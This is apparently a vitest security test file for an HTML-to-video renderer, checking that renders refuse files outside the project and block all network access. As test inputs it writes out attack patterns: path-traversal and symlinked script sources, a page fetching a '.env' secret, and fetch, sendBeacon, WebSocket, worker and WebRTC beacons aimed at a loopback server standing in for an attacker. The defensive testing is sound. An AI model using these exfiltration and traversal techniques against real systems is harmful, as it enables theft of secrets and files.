/**
 * Issue 13 §1 (safety): a composition reads only its own project and never the network.
 * Every test reproduces an attack with the real pipeline (files on disk, symlinks, headless Chrome, FFmpeg,
 * a real HTTP/UDP server on loopback standing in for "the network") and checks it is refused.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import http from "node:http";
import dgram from "node:dgram";
import net from "node:net";
import { copyFileSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import type { AddressInfo } from "node:net";
import { GSAP_JS, cleanupProjects, makeProject, page, tempDir, type PageOptions } from "./helpers/project.js";
import { cli } from "./helpers/cli.js";
import { renderProject } from "./helpers/render.js";
import { colourDistance, frameRgbAt } from "./helpers/media.js";
import { lintProjectSync } from "../src/compose/lint.js";
import { snapshot } from "../src/render/snapshot.js";

afterAll(cleanupProjects);

const RED = [255, 0, 0];
const BLACK = [0, 0, 0];
const RED_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="160" height="90"><rect width="160" height="90" fill="#ff0000"/></svg>`;
/** 160x90, 0.5 s at 10 fps: five frames. */
const tiny = (o: Partial<PageOptions> & { body: string }) => page({ width: 160, height: 90, duration: 0.5, fps: 10, ...o });
/** Outside code: paints the stage red if it ever runs (globalThis escapes the sub-composition scope). */
const OUTSIDE_JS = `globalThis.document.getElementById("stage").style.background = "rgb(255, 0, 0)";`;

/** `<root>/outside/…` (files that are not the project's) next to `<root>/a/proj`. */
let projects = 0;
function layout(): { root: string; outside: string; project: (files: Record<string, string>) => string } {
  const root = tempDir("hf-sandbox-");
  const outside = path.join(root, "outside");
  mkdirSync(outside, { recursive: true });
  writeFileSync(path.join(outside, "x.js"), OUTSIDE_JS);
  writeFileSync(path.join(outside, "red.svg"), RED_SVG);
  // a sub-composition that fills the frame red with a secret line of text
  writeFileSync(
    path.join(outside, "leak.html"),
    `<template id="leak-template"><div data-composition-id="leak" data-width="160" data-height="90" data-no-timeline style="position:absolute;inset:0;background:#ff0000;color:#fff">TOPSECRET root:x:0:0</div></template>`,
  );
  return {
    root,
    outside,
    project(files) {
      const dir = path.join(root, "a", `proj${++projects}`);
      for (const [rel, content] of Object.entries(files)) {
        mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
        writeFileSync(path.join(dir, rel), content);
      }
      copyFileSync(GSAP_JS, path.join(dir, "gsap.min.js"));
      return dir;
    },
  };
}

describe("a composition reads only its own project", () => {
  it("a sub-composition symlinked to a file outside the project is refused by render (API and CLI, exit 1) and lint, naming the file and the reference", async () => {
    const l = layout();
    const dir = l.project({
      "index.html": tiny({
        rootAttrs: "data-no-timeline",
        gsap: false,
        body: `<div id="host" data-composition-id="leak" data-composition-src="compositions/leak.html" data-start="0" data-duration="0.5"></div>`,
      }),
    });
    mkdirSync(path.join(dir, "compositions"));
    symlinkSync(path.join(l.outside, "leak.html"), path.join(dir, "compositions", "leak.html"));

    const err = await renderProject(dir).then(
      () => undefined,
      (e: unknown) => e as { code?: string; message: string; file?: string },
    );
    expect(err, "the render must be refused (before the fix the secret was drawn red into the video)").toBeDefined();
    expect(err).toMatchObject({ code: "local_file_outside_project", file: "index.html" });
    expect(err!.message).toContain('"compositions/leak.html"');
    expect(err!.message).toContain(path.join(l.outside, "leak.html"));

    const lint = lintProjectSync(dir);
    expect(lint.findings).toContainEqual(
      expect.objectContaining({ code: "local_file_outside_project", severity: "error", file: "index.html", line: expect.any(Number), element: '<div id="host">' }),
    );

    const r = cli(["render", dir, "-o", path.join(tempDir("hf-sandbox-out-"), "x.mp4"), "--quiet"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^error: index\.html:\d+: "compositions\/leak\.html" is a symlink to .*outside.*\[local_file_outside_project\]$/m);
    const lr = cli(["lint", dir]);
    expect(lr.code).toBe(1);
    expect(lr.stdout).toContain("local_file_outside_project");
  });

  it("a sub-composition's <script src> that leaves the project (a ../ path) is refused; an absolute path is the project's root, not the disk's", async () => {
    const l = layout();
    // ../../outside/x.js: outside both from the sub-composition's folder and from the project folder
    const card = (src: string) =>
      `<template id="card-template"><div data-composition-id="card" data-width="160" data-height="90" data-no-timeline><script src="${src}"></script></div></template>`;
    const index = tiny({
      rootAttrs: "data-no-timeline",
      gsap: false,
      body: `<div id="host" data-composition-id="card" data-composition-src="compositions/card.html" data-start="0" data-duration="0.5"></div>`,
    });
    const relDir = l.project({ "index.html": index, "compositions/card.html": card("../../outside/x.js") });
    await expect(renderProject(relDir)).rejects.toMatchObject({ code: expect.stringMatching(/outside_project$/) });
    expect(lintProjectSync(relDir).findings).toContainEqual(expect.objectContaining({ code: "local_file_outside_project", severity: "error", file: "compositions/card.html" }));
    await expect(import("../src/compose/compile.js").then((m) => m.compileComposition(relDir))).rejects.toMatchObject({
      code: "file_outside_project",
      message: expect.stringContaining('<script src="../../outside/x.js"> in compositions/card.html points outside the project'),
    });

    // an absolute file-system path: before the fix the compiler read it from the disk and ran it
    const abs = l.project({ "index.html": index, "compositions/card.html": card(path.join(l.outside, "x.js")) });
    const r = await renderProject(abs, { workers: 1, verify: false });
    const stage = await frameRgbAt(r.output, 2, 80, 45);
    expect(colourDistance(stage, BLACK), `outside code ran: the stage is ${stage}`).toBeLessThan(40);
    expect(lintProjectSync(abs).findings).toContainEqual(expect.objectContaining({ code: "local_file_missing", file: "compositions/card.html" }));
  });

  it("files outside the project and .env files the page asks for while rendering are refused, and the render fails naming them", async () => {
    const l = layout();
    const dir = l.project({
      ".env": "API_KEY=sk-secret",
      "index.html": tiny({
        gsap: false,
        rootAttrs: "data-no-timeline",
        body: `<div id="t" style="position:absolute;inset:0;color:#fff"></div>`,
        script: `var i = new Image(); i.src = "link/red.svg"; document.getElementById("stage").appendChild(i);
fetch(".env").then(function (r) { return r.text(); }).then(function (t) { document.getElementById("t").textContent = t; });`,
      }),
    });
    symlinkSync(l.outside, path.join(dir, "link"));
    const err = await renderProject(dir, { workers: 1 }).then(
      () => undefined,
      (e: unknown) => e as { code?: string; message: string },
    );
    expect(err, "the render must fail (before the fix .env was served and drawn)").toBeDefined();
    expect(err).toMatchObject({ code: "file_outside_project" });
    expect(err!.message).toContain("/link/red.svg");
    expect(err!.message).toContain("/.env");
  });

  it("symlinks that stay inside the project keep working", async () => {
    const dir = makeProject({
      "assets/red.svg": RED_SVG,
      "index.html": tiny({ gsap: false, rootAttrs: "data-no-timeline", body: `<img src="alias.svg" style="position:absolute;left:0;top:0">` }),
    });
    symlinkSync(path.join(dir, "assets", "red.svg"), path.join(dir, "alias.svg"));
    expect(lintProjectSync(dir).errorCount).toBe(0);
    const r = await renderProject(dir, { workers: 1 });
    expect(colourDistance(await frameRgbAt(r.output, 1, 80, 45), RED)).toBeLessThan(60);
  });
});

describe("a render never reaches the network", () => {
  let server: http.Server;
  let base: string;
  const hits: string[] = [];
  let upgrades = 0;

  beforeAll(async () => {
    server = http.createServer((req, res) => {
      hits.push(req.url ?? "");
      res.setHeader("access-control-allow-origin", "*");
      if (req.url?.endsWith(".svg")) {
        res.setHeader("content-type", "image/svg+xml");
        return res.end(RED_SVG);
      }
      res.end("SECRET-FROM-THE-NETWORK");
    });
    server.on("upgrade", (_req, socket) => {
      upgrades++;
      socket.destroy();
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));

  const networkProject = () =>
    makeProject({
      "index.html": tiny({
        gsap: false,
        rootAttrs: "data-no-timeline",
        body: `<img src="${base}/red.svg" style="position:absolute;left:0;top:0"><div id="t" style="position:absolute;left:0;top:60px;color:#fff"></div>`,
        script: `fetch("${base}/beacon?from=page").then(function (r) { return r.text(); }).then(function (t) { document.getElementById("t").textContent = t; });
navigator.sendBeacon("${base}/beacon?from=sendBeacon", "x");
try { new WebSocket("${base.replace("http", "ws")}/socket"); } catch (e) {}`,
      }),
    });

  it("<img src=http…>, fetch(), sendBeacon and a WebSocket are blocked; the render fails listing them; the server sees nothing", async () => {
    hits.length = 0;
    upgrades = 0;
    const dir = networkProject();
    const err = await renderProject(dir, { workers: 1 }).then(
      () => undefined,
      (e: unknown) => e as { code?: string; message: string; hint?: string; data?: { urls: string[] } },
    );
    expect(err, "the render must fail (before the fix it drew the network's answer into the video)").toBeDefined();
    expect(err).toMatchObject({ code: "network_request_blocked", file: "index.html", exitCode: 1 });
    expect(err!.message).toContain(`${base}/red.svg`);
    expect(err!.data!.urls).toEqual(expect.arrayContaining([`${base}/red.svg`, `${base}/beacon?from=page`, `${base}/beacon?from=sendBeacon`]));
    expect(err!.hint).toMatch(/--allow-network/);
    await new Promise((r) => setTimeout(r, 300));
    expect(hits).toEqual([]);
    expect(upgrades).toBe(0);
  });

  it("workers are blocked too: a dedicated worker's fetch, service workers and shared workers (their own browser targets)", async () => {
    hits.length = 0;
    const dir = makeProject({
      "sw.js": `fetch("${base}/beacon?from=serviceworker"); self.addEventListener("install", function () { fetch("${base}/beacon?from=serviceworker-install"); });`,
      "shared.js": `fetch("${base}/beacon?from=sharedworker");`,
      "index.html": tiny({
        gsap: false,
        rootAttrs: "data-no-timeline",
        duration: 1,
        body: `<div style="position:absolute;inset:0;background:#fff"></div>`,
        script: `new Worker(URL.createObjectURL(new Blob(['fetch("${base}/beacon?from=worker")'], { type: "text/javascript" })));
try { navigator.serviceWorker.register("sw.js").catch(function () {}); } catch (e) {}
try { new SharedWorker("shared.js"); } catch (e) {}
try { new SharedWorker(URL.createObjectURL(new Blob(['fetch("${base}/beacon?from=blob-sharedworker")'], { type: "text/javascript" }))); } catch (e) {}`,
      }),
    });
    await expect(renderProject(dir, { workers: 1 })).rejects.toMatchObject({ code: "network_request_blocked" });
    await new Promise((r) => setTimeout(r, 500));
    expect(hits).toEqual([]);
  });

  it("requests in flight when a capture page closes never reach the network (Chrome resumes paused requests on close)", async () => {
    // a page and a worker that ask every 2 ms: some requests are always paused in the interception when the
    // render closes its page; before the fix those were let through (every run of three leaked)
    for (let i = 0; i < 3; i++) {
      hits.length = 0;
      const dir = makeProject({
        "index.html": tiny({
          gsap: false,
          rootAttrs: "data-no-timeline",
          body: `<div></div>`,
          script: `new Worker(URL.createObjectURL(new Blob(['var n = 0; setInterval(function () { fetch("${base}/beacon?worker=" + n++).catch(function () {}); }, 2);'], { type: "text/javascript" })));
var m = 0; setInterval(function () { fetch("${base}/beacon?page=" + m++).catch(function () {}); }, 2);`,
        }),
      });
      await expect(renderProject(dir, { workers: 1 })).rejects.toMatchObject({ code: "network_request_blocked" });
      await new Promise((r) => setTimeout(r, 300));
      expect(hits).toEqual([]);
    }
  });

  it("snapshot blocks the network too: it fails listing the URLs, and the server sees nothing (it reached it before)", async () => {
    hits.length = 0;
    upgrades = 0;
    const dir = networkProject();
    const err = await snapshot({ project: dir, at: [0.2], outputDir: tempDir("hf-snap-net-") }).then(
      () => undefined,
      (e: unknown) => e as { code?: string; data?: { urls: string[] } },
    );
    expect(err, "the snapshot must fail").toBeDefined();
    expect(err).toMatchObject({ code: "network_request_blocked" });
    expect(err!.data!.urls).toEqual(expect.arrayContaining([`${base}/red.svg`, `${base}/beacon?from=page`]));
    await new Promise((r) => setTimeout(r, 300));
    expect(hits).toEqual([]);
    // allowNetwork (the CLI's --allow-network) lets them through, with a warning
    const warned: string[] = [];
    const ok = await snapshot({ project: dir, at: [0.2], outputDir: tempDir("hf-snap-net-"), allowNetwork: true, onWarning: (m) => warned.push(m) });
    expect(ok.files).toHaveLength(1);
    expect(warned.join("\n")).toMatch(/--allow-network/);
    expect(hits).toContain("/red.svg");
  });

  it("--allow-network lets the requests through, with a warning", async () => {
    hits.length = 0;
    const dir = networkProject();
    const r = await renderProject(dir, { workers: 1, allowNetwork: true });
    expect(r.warned.join("\n")).toMatch(/--allow-network: the composition may reach the network/);
    expect(hits).toContain("/red.svg");
    expect(colourDistance(await frameRgbAt(r.output, 2, 20, 20), RED)).toBeLessThan(60);
  });

  it("WebRTC sends nothing (STUN over UDP, TURN over TCP, to servers on loopback)", async () => {
    const udp = dgram.createSocket("udp4");
    let packets = 0;
    udp.on("message", () => packets++);
    await new Promise<void>((r) => udp.bind(0, "127.0.0.1", () => r()));
    let tcpConnections = 0;
    const tcp = net.createServer((sock) => {
      tcpConnections++;
      sock.destroy();
    });
    await new Promise<void>((r) => tcp.listen(0, "127.0.0.1", () => r()));
    try {
      const port = (udp.address() as AddressInfo).port;
      const tport = (tcp.address() as AddressInfo).port;
      const dir = makeProject({
        "index.html": tiny({
          gsap: false,
          rootAttrs: "data-no-timeline",
          body: "",
          script: `try { var pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }, { urls: "turn:127.0.0.1:${tport}?transport=tcp", username: "exfiltrated-data", credential: "x" }] }); pc.createDataChannel("x"); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }); } catch (e) {}`,
        }),
      });
      await renderProject(dir, { workers: 1, verify: false });
      await new Promise((r) => setTimeout(r, 300));
      expect(packets).toBe(0);
      expect(tcpConnections).toBe(0);
    } finally {
      udp.close();
      tcp.close();
    }
  });

  it("the CLI exits 1 naming the blocked URLs; lint reports every network use (it said 'no problems' before)", () => {
    const dir = networkProject();
    const r = cli(["render", dir, "-o", path.join(tempDir("hf-sandbox-out-"), "x.mp4"), "--quiet"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^error: index\.html: the composition tried to reach the network, which renders block: .*\/red\.svg.*\[network_request_blocked\]$/m);
    const lint = lintProjectSync(dir);
    expect(lint.findings).toContainEqual(expect.objectContaining({ code: "remote_asset", severity: "warning", file: "index.html", element: expect.stringContaining("<img") }));
    const net = lint.findings.filter((f) => f.code === "network_request").map((f) => f.message);
    expect(net.join("\n")).toMatch(/fetch\(\)/);
    expect(net.join("\n")).toMatch(/sendBeacon/);
    expect(net.join("\n")).toMatch(/WebSocket/);
    const out = cli(["lint", dir]);
    expect(out.stdout).not.toMatch(/no problems/);
  });
});
